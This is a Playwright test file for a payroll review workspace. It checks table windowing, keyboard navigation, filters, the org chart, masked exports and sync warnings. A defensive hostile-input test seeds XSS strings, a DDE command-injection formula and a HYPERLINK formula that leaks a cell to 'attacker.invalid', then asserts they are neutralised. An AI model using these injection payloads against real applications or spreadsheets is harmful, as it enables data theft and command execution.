/**
 * The review workspace in Chromium against the local sandbox: the people table stays windowed
 * while every row stays reachable, search, filters and the org chart work from the keyboard,
 * hostile names are shown as text and never run, exports open with no live formula, and the
 * page says when its data may be out of date.
 */
import type { Page } from '@playwright/test'
import { expect, test } from '@playwright/test'
import { createScenario } from '../../src/sandbox/data'
import type { ReviewSession } from './review-session'
import {
  connectCompany,
  downloadExport,
  openCompany,
  readSpreadsheet,
  startReviewSession,
} from './review-session'

const largeco = createScenario('largeco')
const hostile = createScenario('hostile')
const LARGECO = largeco.company.legal_name ?? ''
const HOSTILE = hostile.company.legal_name ?? ''
const HYPERLINK = '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Click for refund")'

test.describe.configure({ mode: 'serial' })

test.describe('the review workspace', () => {
  let session: ReviewSession
  let page: Page
  const dialogs: string[] = []
  const consoleErrors: string[] = []

  test.beforeAll(async ({ browser }) => {
    test.setTimeout(180_000)
    session = await startReviewSession()
    page = await browser.newPage({ acceptDownloads: true })
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    page.on('console', (message) => {
      if (message.type() === 'error') consoleErrors.push(message.text())
    })
    page.on('pageerror', (error) => consoleErrors.push(error.message))

    await page.goto(session.harness.host.launchUrl)
    await connectCompany(page, 'Large Co Holdings', 'largeco')
    await page.getByRole('button', { name: 'All clients' }).click()
    await connectCompany(page, 'Hostile Holdings', 'hostile')
  })

  test.afterAll(async () => {
    await page?.close()
    await session?.close()
  })

  test('keeps the people table windowed while every row stays reachable', async () => {
    await openCompany(page, LARGECO)
    const total = largeco.directory.length
    await expect(page.getByTestId('page-range')).toContainText(
      new RegExp(`^Showing 1–\\d+ of ${total}$`),
    )

    const scroller = page.getByTestId('directory-table')
    let mostRows = 0
    for (let step = 0; step <= 12; step++) {
      await scroller.evaluate((element, at) => {
        element.scrollTop = (element.scrollHeight - element.clientHeight) * at
      }, step / 12)
      await page.waitForTimeout(60)
      mostRows = Math.max(mostRows, await scroller.locator('tbody tr[aria-rowindex]').count())
    }

    expect(mostRows).toBeLessThan(40)
    const lastRow = scroller.locator(`tr[aria-rowindex="${total + 1}"]`)
    await expect(lastRow).toHaveAttribute('data-testid', 'directory-row')
    const expectedLast = await lastDirectoryName(page, LARGECO, total)
    await expect(lastRow.getByRole('rowheader')).toHaveText(expectedLast)
  })

  test('moves through the table from the keyboard with a visible active cell', async () => {
    const grid = page.getByRole('grid', { name: 'People in the directory' })
    await grid.focus()
    await page.keyboard.press('Control+End')

    const activeId = await grid.getAttribute('aria-activedescendant')
    expect(activeId).toBeTruthy()
    const active = page.locator(`[id="${activeId}"]`)
    await expect(active).toBeVisible()
    await expect(active).toHaveClass(/is-active-cell/)
    await expect(active.locator('xpath=..')).toHaveAttribute(
      'aria-rowindex',
      String(largeco.directory.length + 1),
    )

    await page.keyboard.press('Control+Home')
    await page.keyboard.press('ArrowRight')
    const firstRowCell = page.locator(`[id="${await grid.getAttribute('aria-activedescendant')}"]`)
    await expect(firstRowCell).toHaveAttribute('aria-colindex', '2')
    await expect(firstRowCell.locator('xpath=..')).toHaveAttribute('aria-rowindex', '2')
  })

  test('searches by name and filters by department, status and manager', async () => {
    const rows = page.getByTestId('directory-row')
    const someone = largeco.directory.find((person) => person.last_name && person.is_active)
    const lastName = someone?.last_name ?? ''

    await page.getByLabel('Search people').fill(lastName)
    await expect(page.getByTestId('page-range')).not.toContainText(`of ${largeco.directory.length}`)
    for (const name of await rows.getByRole('rowheader').allTextContents()) {
      expect(name.toLowerCase()).toContain(lastName.toLowerCase())
    }
    await page.getByLabel('Search people').fill('')

    const department = someone?.department?.name ?? ''
    await page.getByLabel('Department').selectOption(department)
    await expect(rows.first()).toBeVisible()
    const expectedInDepartment = largeco.directory.filter(
      (person) => person.department?.name === department,
    ).length
    await expect(page.getByTestId('page-range')).toContainText(`of ${expectedInDepartment}`)
    for (const cell of await rows.locator('[aria-colindex="3"]').allTextContents()) {
      expect(cell).toBe(department)
    }

    await page.getByLabel('Status').selectOption('terminated')
    await expect(rows.first()).toBeVisible()
    for (const status of await rows.locator('[aria-colindex="5"]').allTextContents()) {
      expect(status).toBe('Terminated')
    }

    await page.getByRole('button', { name: 'Clear filters' }).click()
    const manager = page.getByLabel('Manager')
    const managerOption = manager.locator('option').nth(1)
    const managerLabel = (await managerOption.textContent()) ?? ''
    await manager.selectOption({ index: 1 })
    await expect(rows.first()).toBeVisible()
    const managerName = managerLabel.replace(/ \(\d+\)$/, '')
    for (const cell of await rows.locator('[aria-colindex="4"]').allTextContents()) {
      // The filter names a manager as the table's column does, first then last name.
      expect(cell).toBe(managerName)
    }
    await page.getByRole('button', { name: 'Clear filters' }).click()
    await expect(page.getByTestId('page-range')).toContainText(`of ${largeco.directory.length}`)
  })

  test('filters by location and employment type, and finds people by email', async () => {
    const rows = page.getByTestId('directory-row')
    const employment = (id: string) => largeco.employment(id)
    const placeOf = (id: string) =>
      [employment(id)?.location?.city, employment(id)?.location?.state].filter(Boolean).join(', ')
    await expect(page.getByTestId('filters-missing-note')).toHaveCount(0)

    const location = page.getByLabel('Location')
    await expect(location).toBeEnabled()
    const places = largeco.directory.map((person) => placeOf(person.id)).filter(Boolean)
    const place = places.sort(
      (a, b) => places.filter((p) => p === b).length - places.filter((p) => p === a).length,
    )[0]!
    await location.selectOption(place)
    const inPlace = largeco.directory.filter((person) => placeOf(person.id) === place)
    await expect(page.getByTestId('page-range')).toContainText(`of ${inPlace.length}`)

    await page.getByLabel('Employment type').selectOption('employee/full_time')
    const fullTimeInPlace = inPlace.filter(
      (person) => employment(person.id)?.employment?.subtype === 'full_time',
    )
    await expect(page.getByTestId('page-range')).toContainText(`of ${fullTimeInPlace.length}`)
    for (const name of await rows.getByRole('rowheader').allTextContents()) {
      const person = fullTimeInPlace.find((p) => name.startsWith(`${p.last_name}, ${p.first_name}`))
      expect(person, name).toBeDefined()
    }
    await page.getByRole('button', { name: 'Clear filters' }).click()

    const someone = largeco.directory.find(
      (person) => (largeco.individual(person.id)?.emails ?? []).length > 0,
    )
    const emails = largeco.individual(someone?.id ?? '')?.emails ?? []
    const email = emails[0]?.data ?? ''
    // The table shows the work email where there is one, so the match can be seen.
    const shown = (emails.find((entry) => entry.type === 'work') ?? emails[0])?.data ?? ''
    await page.getByLabel('Search people').fill(email)
    await expect(page.getByTestId('page-range')).toContainText('of 1')
    await expect(rows.first().getByRole('rowheader')).toContainText(
      `${someone?.last_name}, ${someone?.first_name}`,
    )
    await expect(rows.first().locator('[aria-colindex="2"]')).toHaveText(shown)
    await page.getByLabel('Search people').fill('')
    await expect(page.getByTestId('page-range')).toContainText(`of ${largeco.directory.length}`)
  })

  test('opens a person from the people table by click and by Enter', async () => {
    const first = page.getByTestId('directory-row').first()
    const lastName = ((await first.getByRole('rowheader').textContent()) ?? '').split(',')[0]!

    await first.locator('td').first().click()
    await expect(page.getByTestId('person-name')).toContainText(lastName)
    await page.getByRole('button', { name: 'Back to the company' }).click()
    const grid = page.getByRole('grid', { name: 'People in the directory' })
    await grid.focus()
    await page.keyboard.press('Control+Home')
    await page.keyboard.press('Enter')

    await expect(page.getByTestId('person-name')).toContainText(lastName)
    await page.getByRole('button', { name: 'Back to the company' }).click()
    await expect(page.getByTestId('directory-row').first()).toBeVisible()

    // Scrolled, rows sit in the document in the order their elements were reused, not the order
    // they show in; a click still opens the person whose row was clicked.
    const scroller = page.getByTestId('directory-table')
    await scroller.evaluate((element) => (element.scrollTop = 38 * 57))
    const middle = scroller.locator('tr[aria-rowindex="62"][data-testid="directory-row"]')
    const middleName = ((await middle.getByRole('rowheader').textContent()) ?? '').split(',')[0]!
    await middle.locator('td').last().click()
    await expect(page.getByTestId('person-name')).toContainText(middleName)
    await page.getByRole('button', { name: 'Back to the company' }).click()
    await expect(page.getByTestId('directory-row').first()).toBeVisible()
  })

  test('opens the org chart a level at a time from the keyboard', async () => {
    await page.getByRole('button', { name: 'Org chart' }).click()
    const tree = page.getByRole('tree', { name: 'Org chart by manager' })
    const top = tree.getByRole('treeitem').first()
    await expect(top).toHaveAttribute('aria-level', '1')
    await expect(top).toHaveAttribute('aria-expanded', 'false')

    await top.focus()
    await page.keyboard.press('ArrowRight')
    await expect(top).toHaveAttribute('aria-expanded', 'true')
    const levelTwo = tree.locator('[role="treeitem"][aria-level="2"]')
    await expect(levelTwo.first()).toBeVisible()

    await page.keyboard.press('ArrowRight')
    await expect(levelTwo.first()).toBeFocused()
    const manager = tree.locator('[role="treeitem"][aria-level="2"][aria-expanded]').first()
    await manager.focus()
    await page.keyboard.press('Enter')
    await expect(manager).toHaveAttribute('aria-expanded', 'true')
    await expect(tree.locator('[role="treeitem"][aria-level="3"]').first()).toBeVisible()

    await page.keyboard.press('ArrowLeft')
    await expect(manager).toHaveAttribute('aria-expanded', 'false')
    await page.keyboard.press('ArrowLeft')
    await expect(top).toBeFocused()
    await page.getByRole('button', { name: 'List' }).click()
  })

  test('exports the directory and the company to CSV and XLSX with no live formula', async () => {
    for (const format of ['CSV', 'Excel'] as const) {
      const { download, bytes } = await downloadExport(page, 'Export people', format)
      const kind = format === 'CSV' ? 'csv' : 'xlsx'
      expect(download.suggestedFilename()).toMatch(
        new RegExp(`directory \\d{4}-\\d{2}-\\d{2}\\.${kind}$`),
      )

      const sheet = await readSpreadsheet(bytes, kind)
      expect(sheet.formulaCells).toEqual([])
      expect(sheet.rows).toHaveLength(largeco.directory.length + 1)
      expect(sheet.rows[0]?.slice(0, 2)).toEqual(['Last name', 'First name'])
    }

    for (const format of ['CSV', 'Excel'] as const) {
      const { bytes } = await downloadExport(page, 'Export company', format)
      const sheet = await readSpreadsheet(bytes, format === 'CSV' ? 'csv' : 'xlsx')

      expect(sheet.formulaCells).toEqual([])
      expect(sheet.rows).toContainEqual(['Company', 'Legal name', LARGECO])
      const ein = sheet.rows.find((row) => row[1] === 'EIN')?.[2]
      expect(String(ein)).toMatch(/^••-•••\d{4}$/)
    }
  })

  test('shows hostile names as text, runs none of them, and neutralizes them in exports', async () => {
    await openCompany(page, /Hostile/)
    await expect(page.getByTestId('company-name')).toHaveText(HOSTILE)

    await page.getByLabel('Search people').fill('Script')
    await expect(
      page.getByRole('rowheader', { name: 'Script, <script>alert("first_name")</script>' }).first(),
    ).toBeVisible()
    await page.getByLabel('Search people').fill('Onerror')
    await expect(
      page
        .getByRole('rowheader', { name: 'Onerror, Mallory <img src=x onerror=alert(1)>' })
        .first(),
    ).toBeVisible()
    await page.getByLabel('Search people').fill('Formula')
    await expect(
      page.getByRole('rowheader', { name: `Formula, ${HYPERLINK}` }).first(),
    ).toBeVisible()
    await page.getByLabel('Search people').fill('')

    await page.getByRole('button', { name: 'Org chart' }).click()
    await expect(page.getByRole('tree').getByRole('treeitem').first()).toBeVisible()
    await page.getByRole('tree').getByRole('treeitem').first().focus()
    await page.keyboard.press('ArrowRight')
    await expect(page.locator('[role="treeitem"][aria-level="2"]').first()).toBeVisible()
    await page.getByRole('button', { name: 'List' }).click()

    expect(await page.locator('#main img, #main script, #main marquee, #main b').count()).toBe(0)
    expect(await page.title()).not.toBe('pwned')
    expect(dialogs).toEqual([])
    expect(consoleErrors).toEqual([])

    for (const format of ['CSV', 'Excel'] as const) {
      const { bytes } = await downloadExport(page, 'Export people', format)
      const sheet = await readSpreadsheet(bytes, format === 'CSV' ? 'csv' : 'xlsx')

      expect(sheet.formulaCells).toEqual([])
      const firstNames = sheet.rows.slice(1).map((row) => String(row[1] ?? ''))
      expect(firstNames).toContain(`'${HYPERLINK}`)
      expect(firstNames).toContain(`'+cmd|' /C calc'!A0`)
      expect(firstNames).toContain('<script>alert("first_name")</script>')
      for (const row of sheet.rows) {
        for (const cell of row) expect(String(cell ?? '')).not.toMatch(/^[=+\-@\t\r]/)
      }
    }

    for (const format of ['CSV', 'Excel'] as const) {
      const { bytes } = await downloadExport(page, 'Export company', format)
      const sheet = await readSpreadsheet(bytes, format === 'CSV' ? 'csv' : 'xlsx')

      expect(sheet.formulaCells).toEqual([])
      expect(sheet.rows).toContainEqual(['Company', 'Legal name', HOSTILE])
      expect(sheet.rows).toContainEqual([
        'Department',
        'Name',
        `'=HYPERLINK("https://attacker.invalid","Engineering")`,
      ])
    }
    expect(dialogs).toEqual([])
  })

  test('asks before exporting unmasked numbers, and masks them otherwise', async () => {
    await page.getByLabel('Include full EIN and bank account numbers').check()
    const confirm = page.getByRole('alertdialog')
    await expect(confirm).toContainText('Anyone who gets the file can read them')
    await confirm.getByRole('button', { name: 'Keep them masked' }).click()
    await expect(page.getByLabel('Include full EIN and bank account numbers')).not.toBeChecked()

    await page.getByLabel('Include full EIN and bank account numbers').check()
    await page.getByRole('button', { name: 'Include full numbers' }).click()
    const { bytes } = await downloadExport(page, 'Export company', 'CSV')
    const sheet = await readSpreadsheet(bytes, 'csv')

    expect(sheet.rows.find((row) => row[1] === 'EIN')?.[2]).toBe(hostile.company.ein)
    await page.getByLabel('Include full EIN and bank account numbers').uncheck()
  })

  test('says when Finch cannot be reached and when the data is stale, and still shows it', async () => {
    await openCompany(page, LARGECO)
    await session.sandbox.close()

    await page.getByRole('button', { name: 'Sync now' }).click()
    await expect(page.getByTestId('freshness-banner')).toContainText('Finch could not be reached')
    await expect(page.getByTestId('directory-row').first()).toBeVisible()

    await page.clock.setFixedTime(Date.now() + 8 * 24 * 60 * 60 * 1000)
    await page.reload()
    await openCompany(page, /Hostile/)
    await expect(page.getByTestId('freshness-banner')).toContainText('last synced 8 days ago')
  })
})

/** The last row's name as main orders the directory, asked through the page's own bridge. */
async function lastDirectoryName(page: Page, company: string, total: number): Promise<string> {
  return page.evaluate(
    async ({ company, offset }) => {
      type Answer<T> = Promise<{ value: T }>
      type Name = { firstName: string | null; middleName: string | null; lastName: string | null }
      const bridge = (
        globalThis as unknown as {
          payrollDesk: {
            invoke(
              channel: 'connections.list',
            ): Answer<{ companyName: string; connectionId: string }[]>
            invoke(channel: 'directory.query', args: unknown): Answer<{ rows: Name[] }>
          }
        }
      ).payrollDesk
      const connections = (await bridge.invoke('connections.list')).value
      const connectionId = connections.find((c) => c.companyName === company)?.connectionId
      const answer = await bridge.invoke('directory.query', { connectionId, offset, limit: 1 })
      const row = answer.value.rows[0] as Name
      const given = [row.firstName, row.middleName].filter((p: string | null) => p && p.trim())
      const last = row.lastName && row.lastName.trim() ? row.lastName : ''
      return last && given.length ? `${last}, ${given.join(' ')}` : last || given.join(' ')
    },
    { company, offset: total - 1 },
  )
}
